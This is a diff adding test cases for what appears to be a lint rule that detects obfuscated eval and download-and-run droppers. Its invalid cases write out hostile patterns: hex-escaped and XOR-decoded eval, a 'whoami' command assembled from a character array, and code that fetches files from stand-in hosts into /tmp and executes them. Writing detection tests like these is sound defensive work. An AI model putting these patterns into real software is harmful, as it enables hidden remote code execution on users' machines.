@@ -7,6 +7,11 @@ import { resolvePolicy } from '../../policy/index.js';
 
 ruleTester(rule, {
   valid: [
+    // Escapes for characters that need them, and short escaped strings.
+    "eval('\\u00e9\\u00e8\\u00ea\\u00eb'); require('child_process').exec('printf \"\\x1b[31m\"');",
+    // Downloading to a file that is never run, and running a file that was not downloaded.
+    "const fs = require('fs'), https = require('https');\nhttps.get('https://registry.npmjs.org/x', (res) => res.pipe(fs.createWriteStream('cache.json')));\nrequire('child_process').execSync('node build.js');",
+    "const fs = require('fs');\nfs.writeFileSync('/tmp/x.js', 'module.exports = 1');\nrequire('/tmp/x.js');",
     // Decoding data for display, parsing or binary use is not running it.
     'const label = atob(encoded); console.log(label);',
     "el.textContent = Buffer.from(b64, 'base64').toString('utf8');",
@@ -46,6 +51,32 @@ ruleTester(rule, {
     "const k = atob('bG9n'); console[k]('hi');",
   ],
   invalid: [
+    // Hidden without a decoder call: escaped printable characters, a character array.
+    { code: "eval('\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65.log(1)');", errors: [{ messageId: 'decodedPayload', column: 1, message: 'escape sequences' }] },
+    { code: "require('child_process').exec(['w', 'h', 'o', 'a', 'm', 'i'].join(''));", errors: [{ messageId: 'decodedCommand', column: 1, message: 'character array' }] },
+    // A XOR helper with a map callback; a string-table accessor that names the sink.
+    {
+      code: "const x = (s, k) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ k)).join('');\neval(x('.=*#abcdefgh', 75));",
+      errors: [{ messageId: 'decodedPayload', line: 2, column: 1, message: 'XOR' }],
+    },
+    {
+      code: "function x(s, k) {\n  const out = s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ k));\n  return out.join('');\n}\neval(x('.=*#abcdefgh', 75));",
+      errors: [{ messageId: 'decodedInput', line: 5, column: 1 }],
+    },
+    { code: "const t = ['ZXZhbA=='];\nconst d = (i) => atob(t[i]);\nglobalThis[d(0)]('1');", errors: [{ messageId: 'decodedSink', line: 3, column: 1 }] },
+    // Download, write, run: the dropper, whether the file is spawned, run by a shell or required.
+    {
+      code: "const s = await fetch('https://x.example/y').then((r) => r.text());\nrequire('fs').writeFileSync('/tmp/x.js', s);\nrequire('/tmp/x.js');",
+      errors: [{ messageId: 'downloadedRun', line: 3, column: 1 }],
+    },
+    {
+      code: "const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');\nconst dest = path.join(os.tmpdir(), 'update');\nhttps.get('https://cdn.example.com/bin', (res) => {\n  const out = fs.createWriteStream(dest);\n  res.pipe(out);\n  out.on('finish', () => cp.execFile(dest));\n});",
+      errors: [{ messageId: 'downloadedRun', line: 6, column: 26 }],
+    },
+    {
+      code: "const https = require('https'), fs = require('fs'), cp = require('child_process');\nhttps.get('https://cdn.example.com/s.sh', (res) => res.pipe(fs.createWriteStream('/tmp/s.sh')).on('close', () => cp.exec('sh /tmp/s.sh')));",
+      errors: [{ messageId: 'downloadedRun', line: 2, column: 114 }],
+    },
     {
       name: 'XOR loop over a constant array',
       code: "const enc = [102, 107, 98, 117, 115, 47, 54, 46];\nlet out = '';\nfor (let i = 0; i < enc.length; i++) out += String.fromCharCode(enc[i] ^ 7);\neval(out);",
